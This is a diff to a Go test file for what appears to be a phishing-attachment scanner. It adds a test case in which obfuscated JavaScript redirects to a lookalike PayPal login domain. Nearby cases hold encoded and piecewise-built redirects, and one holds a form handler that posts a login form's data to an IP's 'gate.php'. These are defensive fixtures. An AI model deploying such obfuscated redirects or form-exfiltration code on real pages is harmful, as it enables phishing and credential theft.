@@ -301,6 +301,7 @@ func TestScriptURLs(t *testing.T) {
 		{"userinfo in written script", "userinfo-url", pageAttach("a.html", `<script>document.write(atob('`+b64(`<script>location = unescape("`+percentAll("https://www.microsoft.com@198.51.100.7/login")+`")</`+`script>`)+`'))</script>`), "2"},
 		// addresses built from pieces (constant folding)
 		{"joined with a slash, to lookalike", "lookalike-domain", pageAttach("a.html", `<script>setTimeout(function(){ location.replace(["https:", "", "secure-paypal-login.com", "signin"].join("/")) }, 100)</script>`), "2"},
+		{"array in a variable, to lookalike", "lookalike-domain", pageAttach("a.html", "<script>var p = ['https:', '', 'secure-paypal-login.com', 'signin'];\nsetTimeout(function(){ location.href = p.join('/'); }, 10);</script>"), "2"},
 		{"template of a variable, to blocklisted", "blocklisted-url", pageAttach("a.html", "<script>var h = 'www.evil' + '.example';\nwindow.location.href = `https://${h}/fax/`;</script>"), "2"},
 		{"concat, to ip", "ip-url", pageAttach("a.html", login+`<script>document.forms[0].onsubmit = function(){ fetch("http://".concat("198.51.100.", "7", "/gate.php"), {method: "POST", body: new FormData(this)}); return false; };</script>`), "2"},
 		{"appended atob, to DNSBL-listed", "dnsbl-url", pageAttach("a.html", `<script>var u = "";`+"\n"+`u = atob('`+b64("https://")+`');`+"\n"+`u += 'go.listed' + '.example/x';`+"\n"+`location.href = u;</script>`), "2"},
